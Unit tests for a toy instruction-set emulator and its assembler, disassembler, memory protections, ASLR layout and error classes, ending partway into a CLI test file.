import pytest

from repro.mem.tlb import Tlb


class TestTlb:
    def test_first_touch_misses(self):
        tlb = Tlb(entries=4)
        assert tlb.access(0x1000) is False
        assert tlb.misses == 1

    def test_same_page_hits(self):
        tlb = Tlb(entries=4)
        tlb.access(0x1000)
        assert tlb.access(0x1FFF) is True  # same 4 KiB page
        assert tlb.hits == 1

    def test_different_page_misses(self):
        tlb = Tlb(entries=4)
        tlb.access(0x1000)
        assert tlb.access(0x2000) is False

    def test_lru_eviction(self):
        tlb = Tlb(entries=2)
        tlb.access(0x1000)
        tlb.access(0x2000)
        tlb.access(0x1000)       # refresh page 1
        tlb.access(0x3000)       # evicts page 2 (LRU)
        assert tlb.access(0x1000) is True
        assert tlb.access(0x2000) is False

    def test_capacity_bound(self):
        tlb = Tlb(entries=8)
        for page in range(100):
            tlb.access(page << 12)
        assert tlb.occupancy == 8

    def test_flush(self):
        tlb = Tlb()
        tlb.access(0x1000)
        tlb.flush()
        assert tlb.occupancy == 0
        assert tlb.access(0x1000) is False

    def test_reset_counters_keeps_contents(self):
        tlb = Tlb()
        tlb.access(0x1000)
        tlb.reset_counters()
        assert tlb.hits == 0 and tlb.misses == 0
        assert tlb.access(0x1000) is True

    def test_invalid_size(self):
        with pytest.raises(ValueError):
            Tlb(entries=0)
