"""Memory model tests: segments, permissions (DEP), typed access."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import (
    AlignmentFault,
    ProtectionFault,
    SegmentationFault,
)
from repro.mem.memory import (
    Memory,
    PERM_R,
    PERM_W,
    PERM_X,
    format_perms,
)


@pytest.fixture()
def memory():
    m = Memory()
    m.map_segment("data", 0x1000, 0x1000, PERM_R | PERM_W)
    m.map_segment("text", 0x4000, 0x1000, PERM_R | PERM_X)
    return m


class TestMapping:
    def test_overlap_rejected(self, memory):
        with pytest.raises(ValueError):
            memory.map_segment("bad", 0x1800, 0x1000, PERM_R)

    def test_adjacent_allowed(self, memory):
        memory.map_segment("next", 0x2000, 0x100, PERM_R)

    def test_zero_size_rejected(self):
        with pytest.raises(ValueError):
            Memory().map_segment("empty", 0, 0, PERM_R)

    def test_outside_32bit_rejected(self):
        with pytest.raises(ValueError):
            Memory().map_segment("big", 0xFFFFF000, 0x2000, PERM_R)

    def test_segment_by_name(self, memory):
        assert memory.segment_by_name("data").base == 0x1000
        with pytest.raises(KeyError):
            memory.segment_by_name("nope")

    def test_unmap_all(self, memory):
        memory.unmap_all()
        assert not memory.is_mapped(0x1000)


class TestTypedAccess:
    def test_byte_roundtrip(self, memory):
        memory.store_byte(0x1005, 0xAB)
        assert memory.load_byte(0x1005) == 0xAB

    def test_byte_masks_to_8_bits(self, memory):
        memory.store_byte(0x1000, 0x1FF)
        assert memory.load_byte(0x1000) == 0xFF

    def test_word_roundtrip_little_endian(self, memory):
        memory.store_word(0x1010, 0x11223344)
        assert memory.load_word(0x1010) == 0x11223344
        assert memory.load_byte(0x1010) == 0x44

    def test_word_wraps_to_32_bits(self, memory):
        memory.store_word(0x1010, -1)
        assert memory.load_word(0x1010) == 0xFFFFFFFF

    def test_misaligned_word_faults(self, memory):
        with pytest.raises(AlignmentFault):
            memory.load_word(0x1001)
        with pytest.raises(AlignmentFault):
            memory.store_word(0x1002, 1)

    def test_unmapped_faults(self, memory):
        with pytest.raises(SegmentationFault):
            memory.load_byte(0x9000)
        with pytest.raises(SegmentationFault):
            memory.store_byte(0x0, 1)

    def test_access_crossing_segment_end(self, memory):
        # last aligned word slot that would cross the segment boundary
        memory.map_segment("tiny", 0x3000, 6, PERM_R | PERM_W)
        with pytest.raises(SegmentationFault):
            memory.load_word(0x3004)


class TestPermissions:
    def test_write_to_text_faults(self, memory):
        with pytest.raises(ProtectionFault):
            memory.store_byte(0x4000, 1)

    def test_fetch_from_data_faults_dep(self, memory):
        """The DEP property: rw- pages are not executable."""
        with pytest.raises(ProtectionFault):
            memory.fetch(0x1000, 8)

    def test_fetch_from_text_works(self, memory):
        memory.write_bytes(0x4000, b"\x00" * 8, force=True)
        assert memory.fetch(0x4000, 8) == b"\x00" * 8

    def test_force_write_bypasses_readonly(self, memory):
        memory.write_bytes(0x4000, b"\x4c", force=True)
        assert memory.read_bytes(0x4000, 1) == b"\x4c"

    def test_format_perms(self):
        assert format_perms(PERM_R | PERM_W) == "rw-"
        assert format_perms(PERM_R | PERM_X) == "r-x"
        assert format_perms(0) == "---"


class TestBulkHelpers:
    def test_write_read_roundtrip(self, memory):
        memory.write_bytes(0x1100, b"hello world")
        assert memory.read_bytes(0x1100, 11) == b"hello world"

    def test_cstring(self, memory):
        memory.write_bytes(0x1200, b"path\x00junk")
        assert memory.read_cstring(0x1200) == b"path"

    def test_unterminated_cstring_faults(self, memory):
        memory.write_bytes(0x1000, b"x" * 16)
        with pytest.raises(SegmentationFault):
            memory.read_cstring(0x1000, limit=8)

    @given(st.binary(min_size=1, max_size=64),
           st.integers(min_value=0, max_value=0xF00))
    def test_roundtrip_property(self, blob, offset):
        memory = Memory()
        memory.map_segment("d", 0x1000, 0x1000, PERM_R | PERM_W)
        memory.write_bytes(0x1000 + offset, blob)
        assert memory.read_bytes(0x1000 + offset, len(blob)) == blob

    @given(st.integers(min_value=0, max_value=0xFFC // 4 * 4))
    def test_word_byte_consistency(self, offset):
        memory = Memory()
        memory.map_segment("d", 0, 0x1000, PERM_R | PERM_W)
        offset &= ~3
        memory.store_word(offset, 0xDEADBEEF)
        value = sum(
            memory.load_byte(offset + i) << (8 * i) for i in range(4)
        )
        assert value == 0xDEADBEEF
