"""Layout and ASLR tests."""

import random

from repro.mem.layout import (
    AddressSpaceLayout,
    PAGE_SIZE,
    page_align,
    randomized_layout,
)


class TestDefaultLayout:
    def test_regions_are_disjoint(self):
        layout = AddressSpaceLayout()
        regions = sorted([
            (layout.text_base, layout.text_base + 0x100000),
            (layout.data_base, layout.data_base + 0x100000),
            (layout.libc_text_base, layout.libc_text_base + 0x100000),
            (layout.libc_data_base, layout.libc_data_base + 0x100000),
            (layout.stack_base, layout.stack_top),
        ])
        for (_, end), (start, _) in zip(regions, regions[1:]):
            assert end <= start

    def test_stack_grows_down_from_top(self):
        layout = AddressSpaceLayout()
        assert layout.stack_base == layout.stack_top - layout.stack_size


class TestPageAlign:
    def test_already_aligned(self):
        assert page_align(0x4000) == 0x4000

    def test_rounds_down(self):
        assert page_align(0x4FFF) == 0x4000


class TestAslr:
    def test_randomized_is_page_aligned(self):
        layout = randomized_layout(random.Random(1))
        for base in (layout.text_base, layout.data_base, layout.stack_top):
            assert base % PAGE_SIZE == 0

    def test_deterministic_under_seed(self):
        a = randomized_layout(random.Random(42))
        b = randomized_layout(random.Random(42))
        assert a == b

    def test_different_seeds_differ(self):
        a = randomized_layout(random.Random(1))
        b = randomized_layout(random.Random(2))
        assert a != b

    def test_entropy_bits_bound_the_slide(self):
        default = AddressSpaceLayout()
        for seed in range(20):
            layout = randomized_layout(random.Random(seed), entropy_bits=4)
            slide = layout.text_base - default.text_base
            assert 0 <= slide < 16 * PAGE_SIZE

    def test_stack_slides_down(self):
        default = AddressSpaceLayout()
        for seed in range(10):
            layout = randomized_layout(random.Random(seed))
            assert layout.stack_top <= default.stack_top
