"""Disassembler tests."""

from repro.isa.assembler import assemble
from repro.isa.disassembler import disassemble, format_listing
from repro.isa.encoding import encode, encode_program
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Opcode


class TestDisassemble:
    def test_addresses_and_text(self):
        blob = encode_program([
            Instruction(Opcode.NOP),
            Instruction(Opcode.RET),
        ])
        lines = disassemble(blob, base=0x400000)
        assert [(a, t) for a, _, t in lines] == [
            (0x400000, "nop"),
            (0x400008, "ret"),
        ]

    def test_undecodable_slot_rendered_as_bytes(self):
        blob = bytes([0xEE] * 8)
        [(_, insn, text)] = disassemble(blob)
        assert insn is None
        assert text.startswith(".byte")

    def test_roundtrip_through_assembler(self):
        source = """
            li  t0, 7
            add t1, t0, t0
            ret
        """
        program = assemble(source)
        lines = disassemble(program.text)
        texts = [t for _, _, t in lines]
        assert texts == ["li t0, 7", "add t1, t0, t0", "ret"]
        # disassembly re-assembles to identical bytes
        reassembled = assemble("\n".join(texts))
        assert reassembled.text == program.text

    def test_partial_tail_ignored(self):
        blob = encode(Instruction(Opcode.NOP)) + b"\x01\x02"
        assert len(disassemble(blob)) == 1


class TestFormatListing:
    def test_listing_contains_addresses(self):
        blob = encode(Instruction(Opcode.HALT))
        listing = format_listing(blob, base=0x1000)
        assert "0x00001000" in listing
        assert "halt" in listing
