"""Tests for the register-file definitions."""

import pytest

from repro.isa import registers


class TestParseRegister:
    def test_numeric_names(self):
        for index in range(16):
            assert registers.parse_register(f"r{index}") == index

    def test_aliases(self):
        assert registers.parse_register("zero") == 0
        assert registers.parse_register("sp") == 13
        assert registers.parse_register("rv") == 1
        assert registers.parse_register("a0") == 2
        assert registers.parse_register("t3") == 9
        assert registers.parse_register("fp") == 12

    def test_case_and_whitespace_insensitive(self):
        assert registers.parse_register("  SP ") == 13
        assert registers.parse_register("A1") == 3

    def test_out_of_range_numeric(self):
        with pytest.raises(ValueError):
            registers.parse_register("r16")

    def test_unknown_name(self):
        with pytest.raises(ValueError):
            registers.parse_register("rax")

    def test_negative_index_rejected(self):
        with pytest.raises(ValueError):
            registers.parse_register("r-1")


class TestRegisterName:
    def test_alias_wins_over_numeric(self):
        assert registers.register_name(13) == "sp"
        assert registers.register_name(0) == "zero"

    def test_roundtrip_all(self):
        for index in range(registers.NUM_REGISTERS):
            name = registers.register_name(index)
            assert registers.parse_register(name) == index

    def test_out_of_range(self):
        with pytest.raises(ValueError):
            registers.register_name(16)
        with pytest.raises(ValueError):
            registers.register_name(-1)


class TestAbiConstants:
    def test_distinct(self):
        values = [
            registers.ZERO, registers.RV, registers.A0, registers.A1,
            registers.A2, registers.A3, registers.T0, registers.T1,
            registers.T2, registers.T3, registers.S0, registers.S1,
            registers.FP, registers.SP, registers.GP, registers.LR,
        ]
        assert len(set(values)) == 16

    def test_alias_map_is_complete(self):
        assert len(registers.REGISTER_ALIASES) == registers.NUM_REGISTERS
