"""Assembler <-> disassembler fixed-point property.

For any generated instruction sequence: assemble, disassemble, and
assemble the disassembly — the binary must be identical.  This pins the
two tools to one shared definition of the ISA.
"""

from hypothesis import given, settings, strategies as st

from repro.isa.assembler import assemble
from repro.isa.disassembler import disassemble
from repro.isa.encoding import encode_program
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Format, OPCODE_FORMATS, Opcode

_REGS = st.integers(min_value=0, max_value=15)
# Branch immediates must stay slot-aligned to re-assemble identically
# (the assembler emits what it is given; alignment mirrors real targets).
_ALIGNED_IMM = st.integers(min_value=-(2**20), max_value=2**20).map(
    lambda v: v * 8
)
_SMALL_IMM = st.integers(min_value=-(2**20), max_value=2**20)


#: Which fields each format round-trips through assembly text.
_FIELDS = {
    Format.NONE: (),
    Format.RRR: ("rd", "rs1", "rs2"),
    Format.RRI: ("rd", "rs1", "imm"),
    Format.RI: ("rd", "imm"),
    Format.RR: ("rd", "rs1"),
    Format.R_SRC: ("rs1",),
    Format.R_DST: ("rd",),
    Format.MEM_LOAD: ("rd", "rs1", "imm"),
    Format.MEM_STORE: ("rs2", "rs1", "imm"),
    Format.MEM_ADDR: ("rs1", "imm"),
    Format.BRANCH: ("rs1", "rs2", "imm"),
    Format.JUMP: ("imm",),
    Format.JR: ("rs1", "imm"),
}


def _instruction_strategy():
    def build(opcode, rd, rs1, rs2, imm, aligned):
        fmt = OPCODE_FORMATS[opcode]
        if fmt in (Format.BRANCH, Format.JUMP):
            imm = aligned
        # Fields the textual form does not carry are canonically zero;
        # generating junk there would be information the text cannot
        # round-trip by design.
        fields = {"rd": rd, "rs1": rs1, "rs2": rs2, "imm": imm}
        kept = {k: (v if k in _FIELDS[fmt] else 0)
                for k, v in fields.items()}
        return Instruction(opcode, **kept)

    return st.builds(
        build,
        opcode=st.sampled_from(list(Opcode)),
        rd=_REGS, rs1=_REGS, rs2=_REGS,
        imm=_SMALL_IMM, aligned=_ALIGNED_IMM,
    )


class TestFixedPoint:
    @settings(max_examples=60, deadline=None)
    @given(st.lists(_instruction_strategy(), min_size=1, max_size=30))
    def test_disassembly_reassembles_identically(self, instructions):
        blob = encode_program(instructions)
        listing = "\n".join(
            text for _, _, text in disassemble(blob)
        )
        reassembled = assemble(listing)
        assert reassembled.text == blob

    @settings(max_examples=60, deadline=None)
    @given(st.lists(_instruction_strategy(), min_size=1, max_size=30))
    def test_disassembly_text_is_parseable(self, instructions):
        blob = encode_program(instructions)
        for _, decoded, text in disassemble(blob):
            assert decoded is not None
            single = assemble(text)
            assert len(single.text) == 8
