"""Program container tests: symbols, relocation, immutability."""

import struct

import pytest
from hypothesis import given, settings, strategies as st

from repro.isa.assembler import assemble
from repro.isa.program import Program, Relocation, Symbol


SOURCE = """
main:
    la  a0, table
    la  a1, helper
    call helper
    halt
helper:
    ret
.data
table:
    .word 1, 2, helper
"""


@pytest.fixture()
def program():
    return assemble(SOURCE, name="prog")


class TestSymbols:
    def test_lookup(self, program):
        assert program.symbol("main").offset == 0
        assert program.symbol("helper").section == "text"
        assert program.symbol("table").section == "data"

    def test_has_symbol(self, program):
        assert program.has_symbol("main")
        assert not program.has_symbol("nothing")

    def test_text_offset_of(self, program):
        assert program.text_offset_of("main") == 0
        assert program.text_offset_of("helper") == 4 * 8

    def test_text_offset_of_data_symbol_rejected(self, program):
        with pytest.raises(ValueError):
            program.text_offset_of("table")

    def test_sizes(self, program):
        assert program.text_size == 5 * 8
        assert program.data_size == 12


class TestRelocation:
    def test_relocation_records(self, program):
        symbols = {r.symbol for r in program.relocations}
        assert symbols == {"table", "helper"}

    def test_data_relocation_patched(self, program):
        _, data = program.relocated(0x400000, 0x800000)
        helper_addr = struct.unpack_from("<I", data, 8)[0]
        assert helper_addr == 0x400000 + program.text_offset_of("helper")

    def test_text_relocation_patched(self, program):
        text, _ = program.relocated(0x400000, 0x800000)
        # first instruction: la a0, table -> imm at offset 4
        assert struct.unpack_from("<I", text, 4)[0] == 0x800000

    @settings(max_examples=25, deadline=None)
    @given(st.integers(min_value=0, max_value=0x7FFF).map(lambda v: v << 12),
           st.integers(min_value=0, max_value=0x7FFF).map(lambda v: v << 12))
    def test_relocation_linear_in_base(self, text_base, data_base):
        """Patched addresses must track the chosen bases exactly."""
        program = assemble(SOURCE)
        text, data = program.relocated(text_base, data_base)
        assert struct.unpack_from("<I", text, 4)[0] == data_base
        helper = struct.unpack_from("<I", data, 8)[0]
        assert helper == text_base + program.text_offset_of("helper")

    def test_relocation_addend(self):
        program = assemble("""
        main:
            la a0, blob+12
        .data
        blob: .space 16
        """)
        text, _ = program.relocated(0x1000, 0x2000)
        assert struct.unpack_from("<I", text, 4)[0] == 0x2000 + 12


class TestValueSemantics:
    def test_symbol_frozen(self):
        symbol = Symbol("x", "text", 0)
        with pytest.raises(Exception):
            symbol.offset = 8

    def test_relocation_frozen(self):
        relocation = Relocation("text", 4, "x")
        with pytest.raises(Exception):
            relocation.offset = 8

    def test_program_reusable_across_loads(self, program):
        a = program.relocated(0x1000, 0x2000)
        b = program.relocated(0x5000, 0x6000)
        c = program.relocated(0x1000, 0x2000)
        assert a == c
        assert a != b
