"""Encoding/decoding tests, including hypothesis round-trip properties."""

import pytest
from hypothesis import given, strategies as st

from repro.errors import EncodingError
from repro.isa.encoding import (
    INSTRUCTION_SIZE,
    decode,
    decode_program,
    encode,
    encode_program,
    try_decode,
)
from repro.isa.instruction import IMM_MAX, IMM_MIN, Instruction
from repro.isa.opcodes import Opcode

_OPCODES = st.sampled_from(list(Opcode))
_REGS = st.integers(min_value=0, max_value=15)
_IMMS = st.integers(min_value=IMM_MIN, max_value=IMM_MAX)

instructions = st.builds(
    Instruction, opcode=_OPCODES, rd=_REGS, rs1=_REGS, rs2=_REGS, imm=_IMMS
)


class TestRoundTrip:
    @given(instructions)
    def test_encode_decode_identity(self, instruction):
        assert decode(encode(instruction)) == instruction

    @given(st.lists(instructions, max_size=20))
    def test_program_roundtrip(self, program):
        blob = encode_program(program)
        assert len(blob) == INSTRUCTION_SIZE * len(program)
        assert decode_program(blob) == program

    def test_encoding_is_fixed_width(self):
        assert len(encode(Instruction(Opcode.NOP))) == INSTRUCTION_SIZE
        assert len(encode(Instruction(Opcode.LI, rd=5, imm=-1))) == \
            INSTRUCTION_SIZE


class TestDecodeErrors:
    def test_truncated(self):
        with pytest.raises(EncodingError):
            decode(b"\x00\x00\x00")

    def test_illegal_opcode(self):
        blob = bytes([0xFF, 0, 0, 0, 0, 0, 0, 0])
        with pytest.raises(EncodingError):
            decode(blob)
        assert try_decode(blob) is None

    def test_register_field_out_of_range(self):
        blob = bytes([int(Opcode.ADD), 16, 0, 0, 0, 0, 0, 0])
        with pytest.raises(EncodingError):
            decode(blob)

    def test_misaligned_program_length(self):
        with pytest.raises(EncodingError):
            decode_program(b"\x00" * 9)

    @given(st.binary(min_size=8, max_size=8))
    def test_try_decode_never_raises(self, blob):
        result = try_decode(blob)
        assert result is None or isinstance(result, Instruction)


class TestOpcodeValuesStable:
    """The gadget scanner depends on these byte values never changing."""

    def test_ret_value(self):
        assert int(Opcode.RET) == 0x4C

    def test_pop_value(self):
        assert int(Opcode.POP) == 0x35

    def test_syscall_value(self):
        assert int(Opcode.SYSCALL) == 0x50

    def test_encoded_ret_first_byte(self):
        assert encode(Instruction(Opcode.RET))[0] == 0x4C
