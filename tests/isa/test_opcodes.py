"""Opcode-table consistency tests."""

from repro.isa.opcodes import (
    ALU_RRI_OPCODES,
    ALU_RRR_OPCODES,
    COND_BRANCH_OPCODES,
    CONTROL_OPCODES,
    Format,
    LOAD_OPCODES,
    MNEMONICS,
    OPCODE_FORMATS,
    Opcode,
    STORE_OPCODES,
    is_valid_opcode,
)


class TestTables:
    def test_every_opcode_has_a_format(self):
        for opcode in Opcode:
            assert opcode in OPCODE_FORMATS, opcode

    def test_every_opcode_has_a_mnemonic(self):
        for opcode in Opcode:
            assert MNEMONICS[opcode.name.lower()] is opcode

    def test_values_unique(self):
        values = [int(op) for op in Opcode]
        assert len(values) == len(set(values))

    def test_is_valid_opcode(self):
        assert is_valid_opcode(int(Opcode.ADD))
        assert not is_valid_opcode(0xFE)
        assert not is_valid_opcode(0x02)  # gap after HALT


class TestCategorySets:
    def test_loads_and_stores_disjoint(self):
        assert not LOAD_OPCODES & STORE_OPCODES

    def test_conditional_branches_are_control(self):
        assert COND_BRANCH_OPCODES <= CONTROL_OPCODES

    def test_control_set_complete(self):
        for opcode in (Opcode.JMP, Opcode.JMPR, Opcode.CALL,
                       Opcode.CALLR, Opcode.RET):
            assert opcode in CONTROL_OPCODES

    def test_alu_sets_match_formats(self):
        for opcode in ALU_RRR_OPCODES:
            assert OPCODE_FORMATS[opcode] is Format.RRR
        for opcode in ALU_RRI_OPCODES - {Opcode.LI, Opcode.MOV}:
            assert OPCODE_FORMATS[opcode] is Format.RRI

    def test_branch_value_range_is_contiguous_for_dispatch(self):
        """cpu.step() dispatches with range comparisons; the encoding
        must keep the conditional branches contiguous."""
        values = sorted(int(op) for op in COND_BRANCH_OPCODES)
        assert values == list(range(values[0], values[0] + len(values)))

    def test_alu_rrr_contiguous_for_dispatch(self):
        values = sorted(int(op) for op in ALU_RRR_OPCODES)
        assert values == list(range(values[0], values[0] + len(values)))
