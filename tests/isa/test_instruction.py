"""Instruction value-type tests."""

import pytest

from repro.isa.instruction import Instruction
from repro.isa.opcodes import Format, Opcode


class TestValidation:
    def test_register_range_checked(self):
        with pytest.raises(ValueError):
            Instruction(Opcode.ADD, rd=16)
        with pytest.raises(ValueError):
            Instruction(Opcode.ADD, rs1=-1)
        with pytest.raises(ValueError):
            Instruction(Opcode.ADD, rs2=99)

    def test_immediate_range_checked(self):
        with pytest.raises(ValueError):
            Instruction(Opcode.LI, imm=2**31)
        with pytest.raises(ValueError):
            Instruction(Opcode.LI, imm=-(2**31) - 1)
        Instruction(Opcode.LI, imm=2**31 - 1)
        Instruction(Opcode.LI, imm=-(2**31))

    def test_int_opcode_coerced(self):
        instruction = Instruction(0x10, rd=1, rs1=2, rs2=3)
        assert instruction.opcode is Opcode.ADD

    def test_frozen(self):
        instruction = Instruction(Opcode.NOP)
        with pytest.raises(Exception):
            instruction.rd = 3


class TestToAssembly:
    def test_every_format_renders(self):
        samples = {
            Format.NONE: Instruction(Opcode.RET),
            Format.RRR: Instruction(Opcode.ADD, rd=1, rs1=2, rs2=3),
            Format.RRI: Instruction(Opcode.ADDI, rd=1, rs1=2, imm=-7),
            Format.RI: Instruction(Opcode.LI, rd=4, imm=42),
            Format.RR: Instruction(Opcode.MOV, rd=4, rs1=5),
            Format.R_SRC: Instruction(Opcode.PUSH, rs1=6),
            Format.R_DST: Instruction(Opcode.POP, rd=7),
            Format.MEM_LOAD: Instruction(Opcode.LW, rd=1, rs1=13, imm=8),
            Format.MEM_STORE: Instruction(Opcode.SW, rs2=1, rs1=13, imm=8),
            Format.MEM_ADDR: Instruction(Opcode.CLFLUSH, rs1=2, imm=0),
            Format.BRANCH: Instruction(Opcode.BEQ, rs1=1, rs2=2, imm=16),
            Format.JUMP: Instruction(Opcode.JMP, imm=-8),
            Format.JR: Instruction(Opcode.JMPR, rs1=3, imm=0),
        }
        for fmt, instruction in samples.items():
            assert instruction.format is fmt
            text = instruction.to_assembly()
            assert text.startswith(instruction.opcode.name.lower())

    def test_specific_renderings(self):
        assert Instruction(Opcode.ADD, rd=1, rs1=2, rs2=3).to_assembly() \
            == "add rv, a0, a1"
        assert Instruction(Opcode.LW, rd=6, rs1=13, imm=4).to_assembly() \
            == "lw t0, 4(sp)"
        assert Instruction(Opcode.RET).to_assembly() == "ret"

    def test_str_matches_to_assembly(self):
        instruction = Instruction(Opcode.LI, rd=2, imm=99)
        assert str(instruction) == instruction.to_assembly()
