"""Assembler tests: syntax, layout, relocations, error reporting."""

import struct

import pytest

from repro.errors import AssemblerError
from repro.isa.assembler import assemble
from repro.isa.encoding import decode_program
from repro.isa.opcodes import Opcode


class TestBasicAssembly:
    def test_empty_source(self):
        program = assemble("")
        assert program.text == b""
        assert program.data == b""

    def test_single_instruction(self):
        program = assemble("nop")
        [insn] = decode_program(program.text)
        assert insn.opcode is Opcode.NOP

    def test_comments_and_blank_lines(self):
        program = assemble("""
            ; full-line comment
            nop            ; trailing comment
            # hash comment too

            halt
        """)
        opcodes = [i.opcode for i in decode_program(program.text)]
        assert opcodes == [Opcode.NOP, Opcode.HALT]

    def test_all_operand_forms(self):
        program = assemble("""
            add  t0, t1, t2
            addi t0, t0, -5
            li   a0, 0x1234
            mov  a1, a0
            lw   t1, 8(sp)
            sw   t1, -4(fp)
            push s0
            pop  s0
            clflush 0(t0)
            rdcycle t3
        """)
        decoded = decode_program(program.text)
        assert [i.opcode for i in decoded] == [
            Opcode.ADD, Opcode.ADDI, Opcode.LI, Opcode.MOV, Opcode.LW,
            Opcode.SW, Opcode.PUSH, Opcode.POP, Opcode.CLFLUSH,
            Opcode.RDCYCLE,
        ]
        assert decoded[1].imm == -5
        assert decoded[2].imm == 0x1234
        assert decoded[5].imm == -4

    def test_char_literals(self):
        program = assemble("li a0, 'Z'")
        [insn] = decode_program(program.text)
        assert insn.imm == ord("Z")

    def test_large_unsigned_immediates_wrap(self):
        program = assemble("xori t0, t0, 0xEDB88320")
        [insn] = decode_program(program.text)
        assert insn.imm & 0xFFFFFFFF == 0xEDB88320


class TestLabelsAndBranches:
    def test_backward_branch_offset(self):
        program = assemble("""
        top:
            nop
            jmp top
        """)
        decoded = decode_program(program.text)
        assert decoded[1].imm == -8

    def test_forward_branch_offset(self):
        program = assemble("""
            beq t0, zero, done
            nop
        done:
            halt
        """)
        decoded = decode_program(program.text)
        assert decoded[0].imm == 16

    def test_label_on_same_line(self):
        program = assemble("start: nop")
        assert program.symbols["start"].offset == 0

    def test_multiple_labels_one_location(self):
        program = assemble("""
        alpha:
        beta:
            nop
        """)
        assert program.symbols["alpha"].offset == 0
        assert program.symbols["beta"].offset == 0

    def test_duplicate_label_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("x:\nnop\nx:\nnop")

    def test_undefined_branch_target(self):
        with pytest.raises(AssemblerError):
            assemble("jmp nowhere")

    def test_branch_to_data_label_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("""
                jmp blob
            .data
            blob: .word 1
            """)


class TestDirectives:
    def test_word_layout(self):
        program = assemble("""
        .data
        values: .word 1, 2, 0xFFFFFFFF
        """)
        assert struct.unpack("<3I", program.data) == (1, 2, 0xFFFFFFFF)

    def test_byte_ascii_asciiz(self):
        program = assemble("""
        .data
        a: .byte 1, 'B', 0xFF
        b: .ascii "hi"
        c: .asciiz "yo"
        """)
        assert program.data == bytes([1, ord("B"), 0xFF]) + b"hi" + b"yo\x00"

    def test_space_zeroed(self):
        program = assemble(".data\nbuf: .space 10")
        assert program.data == bytes(10)

    def test_align(self):
        program = assemble("""
        .data
            .byte 1
            .align 3
        here: .byte 2
        """)
        assert program.symbols["here"].offset == 8

    def test_word_self_aligns_and_moves_label(self):
        program = assemble("""
        .data
        s: .asciiz "abc"
        w: .word 7
        """)
        assert program.symbols["w"].offset == 4
        assert struct.unpack_from("<I", program.data, 4)[0] == 7

    def test_entry_directive(self):
        program = assemble("""
        .entry start
        other:
            nop
        start:
            halt
        """)
        assert program.entry == "start"

    def test_unknown_directive(self):
        with pytest.raises(AssemblerError):
            assemble(".bogus 1")

    def test_instructions_in_data_rejected(self):
        with pytest.raises(AssemblerError):
            assemble(".data\nnop")

    def test_string_with_comma_inside(self):
        program = assemble('.data\nmsg: .asciiz "a,b"')
        assert program.data == b"a,b\x00"


class TestRelocations:
    def test_la_emits_relocation(self):
        program = assemble("""
            la a0, blob
        .data
        blob: .word 5
        """)
        assert len(program.relocations) == 1
        relocation = program.relocations[0]
        assert relocation.symbol == "blob"
        assert relocation.section == "text"
        assert relocation.offset == 4  # imm field of slot 0

    def test_la_with_addend(self):
        program = assemble("""
            la a0, blob+8
        .data
        blob: .space 16
        """)
        assert program.relocations[0].addend == 8

    def test_la_with_plain_integer(self):
        program = assemble("la a0, 0x30000000")
        assert not program.relocations
        [insn] = decode_program(program.text)
        assert insn.imm & 0xFFFFFFFF == 0x30000000

    def test_word_label_relocation(self):
        program = assemble("""
        func:
            ret
        .data
        table: .word func
        """)
        assert any(r.section == "data" for r in program.relocations)

    def test_relocated_patches_addresses(self):
        program = assemble("""
            la a0, blob
        .data
        blob: .word 5
        """)
        text, data = program.relocated(0x1000, 0x2000)
        imm = struct.unpack_from("<I", text, 4)[0]
        assert imm == 0x2000  # blob is at data offset 0

    def test_relocated_does_not_mutate_program(self):
        program = assemble("""
            la a0, blob
        .data
        blob: .word 5
        """)
        original = bytes(program.text)
        program.relocated(0xAAAA000, 0xBBBB000)
        assert program.text == original


class TestErrors:
    def test_error_carries_line_number(self):
        try:
            assemble("nop\nbogus_mnemonic t0")
        except AssemblerError as exc:
            assert exc.line_number == 2
        else:
            pytest.fail("expected AssemblerError")

    def test_wrong_operand_count(self):
        with pytest.raises(AssemblerError):
            assemble("add t0, t1")

    def test_bad_register(self):
        with pytest.raises(AssemblerError):
            assemble("add t0, t1, r99")

    def test_bad_memory_operand(self):
        with pytest.raises(AssemblerError):
            assemble("lw t0, t1")
