"""Exception-hierarchy tests: one catchable base, informative messages."""

import pytest

from repro import errors


class TestHierarchy:
    def test_everything_is_reproerror(self):
        leaf_classes = (
            errors.AssemblerError,
            errors.EncodingError,
            errors.SegmentationFault,
            errors.ProtectionFault,
            errors.AlignmentFault,
            errors.CpuFault,
            errors.ShadowStackViolation,
            errors.PrivilegeFault,
            errors.StackCanaryViolation,
            errors.KernelError,
            errors.LoaderError,
            errors.AttackError,
            errors.GadgetNotFoundError,
            errors.HidError,
        )
        for cls in leaf_classes:
            assert issubclass(cls, errors.ReproError), cls

    def test_memory_fault_family(self):
        for cls in (errors.SegmentationFault, errors.ProtectionFault,
                    errors.AlignmentFault):
            assert issubclass(cls, errors.MemoryFault)

    def test_cpu_fault_family(self):
        for cls in (errors.ShadowStackViolation, errors.PrivilegeFault,
                    errors.StackCanaryViolation):
            assert issubclass(cls, errors.CpuFault)

    def test_loader_error_is_kernel_error(self):
        assert issubclass(errors.LoaderError, errors.KernelError)

    def test_gadget_error_is_attack_error(self):
        assert issubclass(errors.GadgetNotFoundError, errors.AttackError)


class TestMessages:
    def test_memory_fault_formats_address(self):
        fault = errors.SegmentationFault("unmapped access", 0xDEAD0000)
        assert "0xdead0000" in str(fault)
        assert fault.address == 0xDEAD0000

    def test_memory_fault_without_address(self):
        fault = errors.MemoryFault("generic")
        assert fault.address is None

    def test_assembler_error_location(self):
        error = errors.AssemblerError("bad mnemonic", 12, "xyz t0")
        assert "line 12" in str(error)
        assert error.line_number == 12
        assert error.line == "xyz t0"

    def test_assembler_error_without_location(self):
        error = errors.AssemblerError("broken")
        assert str(error) == "broken"


class TestCatchability:
    def test_single_except_at_api_boundary(self):
        """The documented pattern: catch ReproError once."""
        from repro.kernel import System

        with pytest.raises(errors.ReproError):
            System(seed=1).spawn("/bin/missing")
