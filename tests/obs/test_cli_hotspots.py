"""CLI tests for ``repro hotspots`` and ``repro bench``.

Suite *runs* are bench-scale and live in ``benchmarks/``; these tests
exercise the command surfaces — argument validation, output modes,
the ledger integration of ``--hotspots``, and the ``--trend``
regression verdict's exit code — against small workloads and
synthetic history rows.
"""

import json

from repro.cli import EXIT_GATE, EXIT_OK, EXIT_USAGE, main
from repro.obs.bench import append_history, build_row


class TestHotspotsCommand:
    def test_tables_mode(self, capsys):
        assert main(["hotspots", "--workload", "basicmath",
                     "--iterations", "40", "--top", "5"]) == EXIT_OK
        out = capsys.readouterr().out
